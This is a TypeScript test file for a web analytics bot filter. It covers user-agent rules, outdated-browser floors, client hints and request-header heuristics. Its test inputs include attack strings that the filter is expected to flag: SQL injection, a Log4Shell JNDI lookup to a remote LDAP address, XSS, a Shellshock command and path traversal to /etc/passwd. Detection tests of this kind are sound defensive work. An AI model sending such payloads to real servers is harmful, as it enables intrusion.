import { describe, expect, it } from 'vitest';
import {
  botReason,
  headerReason,
  isOutdatedBrowser,
  OUTDATED_BROWSER_FLOORS,
  snippetHeadersFrom,
  type SnippetHeaders,
} from '../../src/ingest/bots.ts';
import type { ClientHints } from '../../src/ingest/types.ts';
import { parseUserAgent } from '../../src/ingest/user-agent.ts';
import { BOT_USER_AGENTS } from './fixtures/bots.ts';
import { BROWSERS, WITH_HINTS } from './fixtures/user-agents.ts';

const NO_HINTS: ClientHints = {
  secChUa: '',
  secChUaMobile: '',
  secChUaPlatform: '',
  secChUaPlatformVersion: '',
  secChWidth: '',
  secChViewportWidth: '',
};

/** The bot filter as the pipeline calls it. */
function judge(userAgent: string, h: Partial<ClientHints> = {}, headers?: SnippetHeaders) {
  const hints = { ...NO_HINTS, ...h };
  return botReason({ userAgent, ua: parseUserAgent(userAgent, hints), hints, headers });
}

const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0';

/**
 * The v7 floors, written out independently of the implementation: the browser corpus's old
 * browsers must be dropped for being old, and for nothing else.
 */
const FLOORS: Record<string, number> = {
  Chrome: 70,
  Firefox: 68,
  Safari: 12,
  Opera: 65,
  Edge: 88,
  IE: 11,
};

function isOld(ua: string, browser: string): boolean {
  const [name = '', version = ''] = browser.split('/');
  const floor = FLOORS[name];
  if (floor === undefined || version === '') return false;
  if (/EdgA\/|EdgiOS\//.test(ua)) return false;
  return Number(version.split('.')[0]) < floor;
}

describe('browser corpus: no false positives', () => {
  const rows = [...BROWSERS, ...WITH_HINTS].map(([ua, browser, , , h]) => ({
    ua,
    h,
    expected: isOld(ua, browser) ? 'outdated-browser' : null,
  }));

  it('keeps most of the corpus', () => {
    expect(rows.filter((row) => row.expected === null).length).toBeGreaterThan(180);
  });

  it.each(rows)('$expected ← $ua', ({ ua, h, expected }) => {
    expect(judge(ua, h)).toBe(expected);
  });
});

describe('bot corpus: all flagged', () => {
  it('has at least 60 bots', () => {
    expect(BOT_USER_AGENTS.length).toBeGreaterThanOrEqual(60);
  });

  it.each(BOT_USER_AGENTS)('%s', (ua) => {
    expect(judge(ua)).not.toBeNull();
  });
});

describe('user-agent rules', () => {
  it.each([
    ['', 'ua-empty'],
    ['   ', 'ua-empty'],
    ['Mozilla/5.0', 'ua-chars'],
    ['Mozilla/5.0 (X11)', null], // 17 characters: long enough; other rules judge it
    [`${CHROME} ${'x'.repeat(500 - CHROME.length - 1)}`, null],
    [`${CHROME} ${'x'.repeat(500 - CHROME.length)}`, 'ua-chars'],
    [`${CHROME} Ünïcödé`, 'ua-chars'],
    [`${CHROME}\tTab`, 'ua-chars'],
    // A bare IPv4 address has at most 15 characters: ua-chars fires first.
    ['203.0.113.195', 'ua-chars'],
    ['203.0.113.195:8080', 'ua-ip'],
    ['2001:db8:85a3::8a2e:370:7334', 'ua-ip'],
    ['[2001:db8::1]:443', 'ua-ip'],
    ['f47ac10b-58cc-4372-a567-0e02b2c3d479', 'ua-uuid'],
    ['{F47AC10B-58CC-4372-A567-0E02B2C3D479}', 'ua-uuid'],
    ['urn:uuid:f47ac10b-58cc-4372-a567-0e02b2c3d479', 'ua-uuid'],
    ['f47ac10b58cc4372a5670e02b2c3d479', 'ua-uuid'],
  ])('%j → %s', (ua, expected) => {
    // null here: no shape rule fires ("Mozilla/5.0 (X11)" has no engine, so ua-regex does).
    const reason = judge(ua);
    if (expected === null)
      expect(['ua-empty', 'ua-chars', 'ua-ip', 'ua-uuid']).not.toContain(reason);
    else expect(reason).toBe(expected);
  });

  it.each([
    ['Chrome 69 / 70', 'Chrome/69.0.3497.100', 'Chrome/70.0.3538.102'],
    ['Firefox 67 / 68', 'Firefox/67.0', 'Firefox/68.0'],
    ['Opera 64 / 65', 'OPR/64.0.3417.92', 'OPR/65.0.3467.78'],
    ['Edge 87 / 88', 'Edg/87.0.664.75', 'Edg/88.0.705.50'],
  ])('outdated-browser: %s', (_, old, current) => {
    const chrome = 'Chrome/90.0.4430.212';
    const make = (token: string) =>
      token.startsWith('Firefox')
        ? `Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:${token.slice(8)}) Gecko/20100101 ${token}`
        : token.startsWith('Chrome')
          ? `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) ${token} Safari/537.36`
          : `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) ${chrome} Safari/537.36 ${token}`;
    expect(judge(make(old))).toBe('outdated-browser');
    expect(judge(make(current))).toBeNull();
  });

  it('outdated-browser: Safari 11 / 12, IE 10 / 11', () => {
    const safari = (v: string) =>
      `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${v} Safari/605.1.15`;
    expect(judge(safari('11.1.2'))).toBe('outdated-browser');
    expect(judge(safari('12.0'))).toBeNull();
    expect(judge('Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)')).toBe(
      'outdated-browser',
    );
    expect(judge('Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko')).toBeNull();
  });

  it('outdated-browser: floors are the v7 ones, empty versions and mobile Edge never trigger', () => {
    expect(OUTDATED_BROWSER_FLOORS).toEqual(FLOORS);
    const info = {
      browser: 'Chrome',
      browserVersion: '',
      os: '',
      osVersion: '',
      platform: 'desktop',
    } as const;
    expect(isOutdatedBrowser(info, '')).toBe(false);
    expect(isOutdatedBrowser({ ...info, browserVersion: 'beta' }, '')).toBe(false);
    expect(
      isOutdatedBrowser({ ...info, browser: 'Edge', browserVersion: '45.02' }, 'EdgA/45.02'),
    ).toBe(false);
    expect(isOutdatedBrowser({ ...info, browser: 'Edge', browserVersion: '45' }, 'Edge/45')).toBe(
      true,
    );
  });

  it.each([
    ['Mozilla/5.0 (X11; Linux x86_64; rv:148.0) Gecko/20100101 Firefox/149.0', 'ua-rv-mismatch'],
    [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/120.0',
      'ua-rv-mismatch',
    ],
    [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:102.0) Gecko/20100101 Firefox/115.0',
      'ua-rv-mismatch',
    ],
    ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0', null],
    ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/110.0', null],
    [FIREFOX, null],
  ])('ua-rv-mismatch: %s → %s', (ua, expected) => {
    expect(judge(ua)).toBe(expected);
  });

  it.each([
    ['"HeadlessChrome";v="124", "Chromium";v="124", "Not-A.Brand";v="99"', 'ch-browser'],
    ['"Chromium";v="124", "Python Requests";v="2"', 'ch-browser'],
    ['"Safari";v="17"', 'ch-browser'],
    ['"Not-A.Brand";v="99", "Chromium";v="124", "Google Chrome";v="124"', null],
    ['"Not A(Brand";v="99", "Microsoft Edge";v="121", "Chromium";v="121"', null],
    ['', null],
  ])('ch-browser: %s → %s', (secChUa, expected) => {
    expect(judge(CHROME, { secChUa })).toBe(expected);
  });

  it.each([
    ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'ua-keyword'],
    [`${CHROME} GTmetrix`, 'ua-keyword'],
    ['curl/8.4.0 (x86_64-pc-linux-gnu) libcurl/8.4.0', 'ua-keyword'],
    // Cubot phones contain "bot": the exception keeps them.
    [
      'Mozilla/5.0 (Linux; Android 12; CUBOT KINGKONG 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36',
      null,
    ],
    [`${CHROME} Datanyze`, 'ua-isbot'],
    [`${CHROME}' OR 1=1 --`, 'ua-regex'],
    [`${CHROME} UNION ALL SELECT NULL,NULL`, 'ua-regex'],
    ['${jndi:ldap://198.51.100.7:1389/a}', 'ua-regex'],
    [`${CHROME}<script>alert(1)</script>`, 'ua-regex'],
    ['() { :; }; /bin/bash -c "id"', 'ua-isbot'], // isbot knows Shellshock's "()" too
    [`${CHROME} ../../../../etc/passwd`, 'ua-regex'],
    [`${CHROME} \${jndi:ldap://x}`, 'ua-regex'],
    ['ExampleTool/3.2.1 Engine/7.0', 'ua-regex'],
    ['Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'ua-regex'],
  ])('%s → %s', (ua, expected) => {
    expect(judge(ua)).toBe(expected);
  });
});

/** A snippet request of Chrome over HTTP/2: fetch() from the page to the tracker. */
const CHROME_FETCH: SnippetHeaders = {
  acceptLanguage: 'de-DE,de;q=0.9,en;q=0.8',
  acceptEncoding: 'gzip, deflate, br, zstd',
  secFetchSite: 'cross-site',
  secFetchMode: 'cors',
  secFetchDest: 'empty',
  referer: 'https://example.com/pricing',
  httpVersion: '2.0',
  http2Offered: true,
};

describe('header heuristics (snippet traffic only)', () => {
  it.each<[string, Partial<SnippetHeaders>, string | null]>([
    ['a browser fetch', {}, null],
    ['a sendBeacon', { secFetchMode: 'no-cors' }, null],
    ['Firefox with TE: trailers', { te: 'trailers' }, null],
    [
      'a reload with Pragma and Cache-Control',
      { pragma: 'no-cache', cacheControl: 'no-cache' },
      null,
    ],
    ['HTTP/1.1 when the version is unknown', { httpVersion: undefined }, null],
    // Spoor's own listener and most proxies speak HTTP/1.1: browsers do too, with Sec-Fetch-*.
    ['HTTP/1.1 where no HTTP/2 is offered', { httpVersion: '1.1', http2Offered: false }, null],
    ['HTTP/1.1 with http2Offered unset', { httpVersion: '1.1', http2Offered: undefined }, null],
    ['no Accept-Language', { acceptLanguage: undefined }, 'al-missing'],
    ['a blank Accept-Language', { acceptLanguage: '  ' }, 'al-missing'],
    ['no Accept-Encoding', { acceptEncoding: undefined }, 'ae-missing'],
    ['HTTP/2 with Connection: close', { connection: 'close' }, 'h2-connection'],
    ['HTTP/2 with Connection: keep-alive', { connection: 'Keep-Alive' }, 'h2-connection'],
    [
      'HTTP/1.1 with Connection: keep-alive',
      {
        connection: 'keep-alive',
        httpVersion: '1.1',
        secFetchSite: undefined,
        secFetchMode: undefined,
        secFetchDest: undefined,
      },
      null,
    ],
    ['a TE other than trailers', { te: 'gzip, deflate' }, 'te-header'],
    ['Pragma without Cache-Control', { pragma: 'no-cache' }, 'pragma-no-cache-control'],
    ['Sec-Fetch-Site: none with a referrer', { secFetchSite: 'none' }, 'sf-none-referrer'],
    ['Sec-Fetch-Site: none without a referrer', { secFetchSite: 'none', referer: undefined }, null],
    ['Upgrade-Insecure-Requests with mode cors', { upgradeInsecureRequests: '1' }, 'uir-cors'],
    [
      'Upgrade-Insecure-Requests with dest empty',
      { upgradeInsecureRequests: '1', secFetchMode: 'no-cors' },
      'uir-empty-dest',
    ],
    ['HTTP/1.1 with Sec-Fetch-*', { httpVersion: '1.1' }, 'h1-sec-fetch'],
    [
      'HTTP/1.0 with Sec-Fetch-Mode only',
      { httpVersion: '1.0', secFetchSite: undefined, secFetchDest: undefined },
      'h1-sec-fetch',
    ],
  ])('%s → %s', (_, change, expected) => {
    const headers = { ...CHROME_FETCH, ...change };
    expect(headerReason(headers)).toBe(expected);
    expect(judge(CHROME, {}, headers)).toBe(expected);
  });

  it('does not apply to API ingestion (no headers given): decision 24', () => {
    expect(judge(CHROME)).toBeNull();
    expect(judge(CHROME, {}, {})).toBe('al-missing');
  });

  it('judges the user agent before the headers', () => {
    expect(judge('curl/8.4.0 (x86_64-pc-linux-gnu) libcurl/8.4.0', {}, CHROME_FETCH)).toBe(
      'ua-keyword',
    );
  });

  it("builds the headers from Node's header record", () => {
    expect(
      snippetHeadersFrom(
        {
          'accept-language': 'en-GB',
          'accept-encoding': 'gzip',
          'sec-fetch-site': 'same-site',
          'sec-fetch-mode': 'cors',
          'sec-fetch-dest': 'empty',
          'upgrade-insecure-requests': undefined,
          pragma: 'no-cache',
          'cache-control': 'no-cache',
          te: 'trailers',
          connection: 'keep-alive',
          referer: 'https://example.com/',
          'x-forwarded-for': ['198.51.100.1', '203.0.113.9'],
        },
        '1.1',
      ),
    ).toEqual({
      acceptLanguage: 'en-GB',
      acceptEncoding: 'gzip',
      secFetchSite: 'same-site',
      secFetchMode: 'cors',
      secFetchDest: 'empty',
      upgradeInsecureRequests: undefined,
      pragma: 'no-cache',
      cacheControl: 'no-cache',
      te: 'trailers',
      connection: 'keep-alive',
      referer: 'https://example.com/',
      httpVersion: '1.1',
      http2Offered: false,
    });
  });
});
